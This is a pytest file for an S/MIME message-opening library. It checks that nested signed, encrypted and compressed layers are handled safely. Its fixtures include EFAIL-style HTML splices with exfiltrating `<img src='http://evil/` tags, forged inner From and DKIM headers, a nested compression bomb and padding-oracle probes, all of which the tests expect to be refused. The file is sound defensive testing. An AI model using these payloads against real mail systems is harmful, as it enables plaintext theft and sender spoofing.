"""Messages in layers: what comes out, what is said of each layer, and what is never opened."""

from __future__ import annotations

import subprocess
import zlib
from pathlib import Path

import pybase64
import pytest

from postseal.app.cms_account import opened_as_json, opened_as_text
from postseal.app.cms_entity import Kind
from postseal.app.cms_inspect import inspect
from postseal.app.cms_layers import MAX_LAYERS, Opened, Opening, Protection, open_message
from postseal.app.verify import Request
from postseal.core.cms.opening import CANNOT_OPEN
from postseal.core.cms.signed_reader import DATA
from postseal.core.cms.unwrapping import Holder
from postseal.core.der import INTEGER, OCTET_STRING, OID, SEQUENCE, context, oid_content, tlv
from postseal.core.errors import BadData
from postseal.core.path import Anchor
from postseal.core.suite import Suite
from support.cms import recipient, sealed
from support.pki import NOW
from support.signed import openssl_cms, root, signer

ENTITY = b"Content-Type: text/plain\r\n\r\nhello\r\n"
OUTER = b"From: alice@example.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
MIME = b"Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"


def mime(der: bytes) -> bytes:
    return MIME + pybase64.b64encode(der) + b"\r\n"


def encrypted(content: bytes, suite: Suite = Suite.AES_256_CBC) -> bytes:
    return mime(sealed(suite, [recipient()], content))


def opaque(content: bytes, *options: str) -> bytes:
    return mime(openssl_cms(content, "-nodetach", *options, signers=(signer(),)))


def clear(entity: bytes = ENTITY, shown: bytes | None = None, part: bytes = b"") -> bytes:
    signature = pybase64.b64encode(openssl_cms(entity, signers=(signer(),)))
    part = part or b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n" + signature
    return (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b\r\n\r\n--b\r\n'
        + (entity if shown is None else shown) + b"\r\n--b\r\n" + part + b"\r\n--b--\r\n"
    )  # fmt: skip


def opened(message: bytes, *, anchors: bool = True, keys: bool = True) -> Opened:
    request = Request((Anchor(root().certificate),) if anchors else (), revocation=False)
    return open_message(message, Opening(request, NOW, (Holder(recipient().key),) if keys else ()))


def kinds(found: Opened) -> list[str]:
    return [str(layer.kind) for layer in found.layers]


def test_signed_then_encrypted_comes_out_whole() -> None:
    """RFC 8551 §3.7: the inner fields with the outer ones, an account of each layer."""
    found = opened(OUTER + encrypted(opaque(ENTITY)))
    assert found.octets == OUTER + ENTITY
    assert kinds(found) == ["encrypted", "signed"]
    assert (found.protection, found.refused) == (Protection.DECRYPTED, False)
    (report,) = found.layers[1].signature.signers if found.layers[1].signature else ()
    assert (report.verdict, str(report.matched)) == ("good", "alice@example.test")


def test_a_triple_wrapped_message_is_opened_to_its_core() -> None:
    """RFC 2634 §1.1."""
    found = opened(OUTER + opaque(encrypted(opaque(ENTITY), Suite.AES_256_GCM)))
    assert (found.octets, kinds(found)) == (OUTER + ENTITY, ["signed", "encrypted", "signed"])
    assert found.protection is Protection.DECRYPTED


@pytest.mark.parametrize("suite", [Suite.AES_256_CBC, Suite.AES_128_GCM])
@pytest.mark.parametrize("inner", [opaque(ENTITY), clear()], ids=["opaque", "clear"])
def test_a_clear_triple_wrap_is_opened_to_its_core(suite: Suite, inner: bytes) -> None:
    """RFC 2634 §1.1, ALG-7: all that is signed is one encrypted object, and what is in it takes the place of the root."""
    found = opened(OUTER + clear(encrypted(inner, suite)))
    assert kinds(found) == ["clear-signed", "encrypted", "clear-signed" if b"multipart" in inner else "signed"]
    assert b"hello" in found.octets
    assert found.octets == OUTER + (inner if b"multipart" in inner else ENTITY)
    assert (found.protection, found.refused) == (Protection.DECRYPTED, False)
    assert "outside of what is encrypted" in found.layers[0].notes[-1]
    assert not any("outside" in note for note in found.layers[2].notes)
    kept = opened((OUTER + clear(encrypted(inner, suite))).replace(b"\r\n", b"\n"))
    assert (kinds(kept), kept.refused) == (kinds(found), False)
    (described, sealed_layer) = inspect(OUTER + clear(encrypted(inner, suite)))["layers"]
    assert (described["detached"], sealed_layer["type"].endswith("enveloped-data")) == (True, True)


def test_a_bad_signature_around_what_is_encrypted_is_told() -> None:
    """ALG-7: the content is there and marked, and the message is refused."""
    message = OUTER + clear(encrypted(ENTITY, Suite.AES_256_GCM), shown=encrypted(ENTITY))
    found = opened(message)
    assert (kinds(found), found.octets) == (["clear-signed", "encrypted"], OUTER + ENTITY)
    assert (found.protection, found.refused) == (Protection.UNAUTHENTICATED, True)
    assert any("sig.wrong-content" in line for line in opened_as_text(found))
    good = opened(OUTER + clear(encrypted(ENTITY)))
    assert (good.protection, good.refused) == (Protection.UNAUTHENTICATED, False), "a signature outside says nothing"


def test_a_clear_triple_wrap_without_a_key_stays_as_it_is() -> None:
    message = OUTER + clear(encrypted(opaque(ENTITY)))
    found = opened(message, keys=False)
    assert (found.octets, kinds(found), found.refused) == (message, ["clear-signed"], False)
    assert "no key was given" in found.layers[0].notes[0]


def test_what_stands_around_a_clear_triple_wrap_is_left_out() -> None:
    """ALG-7, EFAIL: preamble, epilogue and fields of the parts are somebody's own; of them nothing is in what comes out."""
    wrapped = clear(encrypted(ENTITY)).replace(b"\r\n--b", b"\r\n<img src='//e/\r\n--b", 1) + b"'>evil\r\n"
    found = opened(OUTER + wrapped)
    assert found.octets == OUTER + ENTITY
    assert len(found.layers[0].uncovered) == 3


@pytest.mark.parametrize(
    "message",
    [
        clear(encrypted(ENTITY)).replace(b"--b--", b"--b\r\n\r\n<p>\r\n--b--"),
        clear(encrypted(ENTITY)).replace(b"--b\r\n", b"--b\r\n\r\n<p>\r\n--b\r\n", 1),
        clear(b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + encrypted(ENTITY) + b"\r\n--m--\r\n"),
        clear(b"Content-Type: message/rfc822\r\n\r\n" + encrypted(ENTITY)),
        clear(b"Content-Type: text/html\r\n\r\n<p>\r\n" + encrypted(ENTITY)),
        clear(clear(encrypted(ENTITY)).replace(b"=b\r", b"=c\r").replace(b"--b", b"--c")),
        clear(opaque(encrypted(ENTITY))),
        clear(encrypted(ENTITY).partition(b"\r\n\r\n")[2]),
        clear(b"Content-Type: text/plain\r\n" + encrypted(ENTITY)),
    ],
    ids=["third-part", "part-before", "mixed", "attached", "text", "clear", "opaque", "no-header", "two-types"],
)
def test_only_one_encrypted_object_that_is_all_of_what_is_signed_is_opened(message: bytes) -> None:
    """ALG-7, EFAIL."""
    found = opened(OUTER + message)
    assert (kinds(found), found.octets) == (["clear-signed"], OUTER + message)


def test_clear_signed_stays_as_it_is() -> None:
    message = OUTER + clear()
    found = opened(message, keys=False)
    assert (found.octets, kinds(found), found.refused) == (message, ["clear-signed"], False)
    assert found.protection is Protection.SIGNED
    assert found.layers[0].uncovered == ("the header fields of the message (4)",)
    inside = opened(OUTER + encrypted(clear()))
    assert inside.octets == OUTER + clear()[: clear().index(b"--b")] + inside.octets[inside.octets.index(b"--b") :]
    assert kinds(inside) == ["encrypted", "clear-signed"]
    assert inside.protection is Protection.DECRYPTED


def test_a_message_that_is_kept_with_lf_verifies() -> None:
    """RFC 8551 §3.1.1."""
    message = (OUTER + clear()).replace(b"\r\n", b"\n")
    found = opened(message)
    assert (found.refused, found.octets) == (False, message)


@pytest.mark.parametrize(
    ("inner", "protection"),
    [
        (ENTITY, Protection.UNAUTHENTICATED),
        (opaque(ENTITY), Protection.DECRYPTED),
        (clear(), Protection.DECRYPTED),
        (clear(shown=ENTITY + b"!"), Protection.UNAUTHENTICATED),
        (opaque(ENTITY, "-nocerts"), Protection.UNAUTHENTICATED),
    ],
    ids=["unsigned", "opaque", "clear", "bad", "unverified"],
)
def test_cbc_is_as_good_as_the_signature_inside_it(inner: bytes, protection: Protection) -> None:
    """ALG-7."""
    found = opened(OUTER + encrypted(inner))
    assert found.protection is protection
    assert opened_as_json(found)["protection"] == str(protection)
    marked = any("decrypted-unauthenticated" in line for line in opened_as_text(found))
    assert marked == (protection is Protection.UNAUTHENTICATED)
    assert opened(OUTER + encrypted(inner, Suite.AES_256_GCM)).protection is Protection.DECRYPTED


def test_a_signature_around_cbc_or_of_somebody_unknown_authenticates_nothing() -> None:
    """ALG-7: who changed the ciphertext can sign it anew, and a signer whom nobody vouches for may be anybody."""
    assert opened(OUTER + opaque(encrypted(ENTITY))).protection is Protection.UNAUTHENTICATED
    assert opened(OUTER + encrypted(opaque(ENTITY)), anchors=False).protection is Protection.UNAUTHENTICATED


def test_an_encrypted_part_of_a_message_is_never_opened() -> None:
    """ALG-7, EFAIL: nothing is put between parts that anybody wrote."""
    spliced = (
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src='http://evil/\r\n--m\r\n"
        + encrypted(ENTITY) + b"\r\n--m\r\nContent-Type: text/html\r\n\r\n'>\r\n--m--\r\n"
    )  # fmt: skip
    with pytest.raises(BadData, match="parts of a message aren't opened"):
        opened(OUTER + spliced)
    found = opened(OUTER + encrypted(spliced, Suite.AES_256_GCM))
    assert kinds(found) == ["encrypted"]
    assert found.octets == OUTER + spliced
    signed = opened(OUTER + clear(opaque(encrypted(ENTITY))))
    assert kinds(signed) == ["clear-signed"]
    assert b"hello" not in signed.octets
    assert "parts of a message aren't opened" in signed.layers[0].notes[0]


def test_inner_fields_set_nothing_outside() -> None:
    """ALG-8: at every layer, security fields among them."""
    evil = b"From: evil@example.test\r\nAuthentication-Results: x; dkim=pass\r\n"
    found = opened(OUTER + encrypted(evil + opaque(b"X-Postseal: ok\r\n" + ENTITY)))
    assert found.octets == OUTER + ENTITY
    assert [note.split()[2] for note in found.notes] == ["From", "Authentication-Results", "X-Postseal"]
    assert not found.refused, "the sender is the one of the message outside"
    stranger = opened(OUTER.replace(b"alice", b"bob") + encrypted(b"From: alice@example.test\r\n" + opaque(ENTITY)))
    assert stranger.refused


def test_a_great_many_inner_fields_are_counted() -> None:
    """THR-10: somebody else's header doesn't fill the log."""
    found = opened(OUTER + encrypted(b"X: y\r\n" * 50_000 + ENTITY))
    assert (found.octets, len(found.notes)) == (OUTER + ENTITY, 21)
    assert found.notes[-1] == "49980 more fields inside the sealed content were left out"


def test_content_that_the_signature_brings_is_told() -> None:
    """RFC 8551 §3.5.3.1: what stands between the boundaries is checked, and whoever shows something else is on his own."""
    part = b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    found = opened(OUTER + clear(part=part + pybase64.b64encode(openssl_cms(ENTITY, "-nodetach", signers=(signer(),)))))
    assert (found.refused, len(found.layers[0].notes)) == (False, 1)
    other = opened(
        OUTER + clear(part=part + pybase64.b64encode(openssl_cms(b"other", "-nodetach", signers=(signer(),))))
    )
    assert other.refused
    assert "content of its own" in other.layers[0].notes[0]


def test_layers_are_bounded() -> None:
    message = ENTITY
    for _ in range(MAX_LAYERS):
        message = encrypted(message, Suite.AES_128_CBC)
    assert len(opened(OUTER + message).layers) == MAX_LAYERS
    with pytest.raises(BadData, match="more than 8 layers"):
        opened(OUTER + opaque(message))


def test_bare_objects_come_out_as_they_are() -> None:
    inner = openssl_cms(ENTITY, "-nodetach")
    found = opened(sealed(Suite.AES_256_GCM, [recipient()], inner))
    assert (found.octets, kinds(found), found.refused) == (ENTITY, ["encrypted", "signed"], False)
    pem = openssl_cms(ENTITY, "-nodetach", form="PEM")
    assert opened(pem).octets == ENTITY
    text = opened(sealed(Suite.AES_256_GCM, [recipient()], b"just words, no header"))
    assert (text.octets, kinds(text)) == (b"just words, no header", ["encrypted"])
    as_text = opened(OUTER + MIME.replace(b"Content-Transfer-Encoding: base64\r\n", b"") + pem)
    assert as_text.octets == OUTER + ENTITY


def test_octet_stream_with_a_name_is_enough() -> None:
    """RFC 8551 §3.9, peers 3.3 (10)."""
    message = OUTER + encrypted(opaque(ENTITY).replace(b"pkcs7-mime", b"octet-stream")).replace(
        b"pkcs7-mime", b"octet-stream"
    )
    assert opened(message).octets == OUTER + ENTITY


def test_a_signature_that_cannot_be_read_costs_no_message() -> None:
    """Peers 3.3 (17): it is bad, and the message is there."""
    broken = b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\nMAAA*"
    for message in (OUTER + clear(part=broken), OUTER + clear().replace(b"--b--", b"--b\r\n\r\nthird\r\n--b--")):
        found = opened(message)
        assert (found.octets, found.refused) == (message, True)
        assert found.layers[0].kind is Kind.CLEAR_SIGNED
        assert "sig.malformed" in next(opened_as_text(found))


def test_a_signature_over_something_else_than_mail_is_none() -> None:
    """RFC 8551 §2.4.1: what was signed as a time stamp, say, isn't mail when it is put between boundaries."""
    stamp = openssl_cms(ENTITY, "-econtent_type", "1.2.840.113549.1.9.16.1.4")
    part = b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    found = opened(OUTER + clear(part=part + pybase64.b64encode(stamp)))
    assert (found.refused, found.layers[0].signature) == (True, None)
    assert "which isn't mail" in found.layers[0].fault


def test_content_that_is_no_message_is_told_like_wrong_padding() -> None:
    """ALG-6: who sends changed ciphertext and sees the answer must not learn that the padding was right (CBC)."""
    words = set()
    for content in (b"no header", b"\xff" * 100, b" folded\r\n\r\n", b"x: y\rz\r\n\r\n"):
        with pytest.raises(BadData) as caught:
            opened(OUTER + encrypted(content))
        words.add(str(caught.value))
    assert words == {CANNOT_OPEN}
    with pytest.raises(BadData, match="malformed"):
        opened(OUTER + encrypted(b"no header", Suite.AES_256_GCM))


def test_keys_are_asked_for_by_name() -> None:
    with pytest.raises(BadData, match="is encrypted: give the key"):
        opened(OUTER + encrypted(ENTITY), keys=False)
    found = opened(OUTER + opaque(encrypted(ENTITY)), keys=False)
    assert kinds(found) == ["signed", "encrypted"]
    assert found.octets.startswith(OUTER + MIME[:30])
    assert found.protection is Protection.UNAUTHENTICATED


def compressed(content: bytes) -> bytes:
    algorithm = tlv(SEQUENCE, tlv(OID, oid_content("1.2.840.113549.1.9.16.3.8")))
    inside = tlv(context(0), tlv(OCTET_STRING, zlib.compress(content)))
    data = tlv(SEQUENCE, tlv(INTEGER, b"\x00"), algorithm, tlv(SEQUENCE, tlv(OID, oid_content(DATA)), inside))
    return mime(tlv(SEQUENCE, tlv(OID, oid_content("1.2.840.113549.1.9.16.1.9")), tlv(context(0), data)))


def test_compressed_layers_are_taken_off() -> None:
    """RFC 3274 §1.1, RFC 8551 §3.6: before or after the signature."""
    found = opened(OUTER + compressed(opaque(compressed(ENTITY))))
    assert (found.octets, kinds(found)) == (OUTER + ENTITY, ["compressed", "signed", "compressed"])
    assert (found.protection, found.refused) == (Protection.SIGNED, False)
    inside = opened(OUTER + encrypted(compressed(opaque(ENTITY))))
    assert (inside.octets, inside.protection) == (OUTER + ENTITY, Protection.DECRYPTED)


def test_bombs_in_bombs_multiply_nothing() -> None:
    """THR-4: the message is what the ratio is of."""
    bomb = ENTITY + bytes(3_000_000)
    for _ in range(3):
        bomb = compressed(bomb)
    with pytest.raises(BadData, match="compressed"):
        opened(OUTER + bomb)


def test_certificates_alone_are_told(tmp_path: Path) -> None:
    """RFC 8551 §3.8: nothing to read, and nobody who signed."""
    (tmp_path / "c.pem").write_bytes(signer().pem)
    command = ["openssl", "crl2pkcs7", "-nocrl", "-certfile", str(tmp_path / "c.pem"), "-outform", "DER"]
    der = subprocess.run(command, capture_output=True, check=True, timeout=30).stdout
    found = opened(OUTER + mime(der))
    assert (found.octets, kinds(found), found.refused) == (OUTER + mime(der), ["certificates"], False)
    assert "only brings certificates (1)" in list(opened_as_text(found))[-1]


def test_the_account_has_no_text_that_is_not_escaped() -> None:
    """THR-10."""
    found = opened(OUTER + encrypted(b"X-\x7e: y\r\n" + ENTITY))
    lines = list(opened_as_text(found))
    assert all(line.isascii() and line.isprintable() for line in lines)
    assert any("X-~" in line for line in lines)
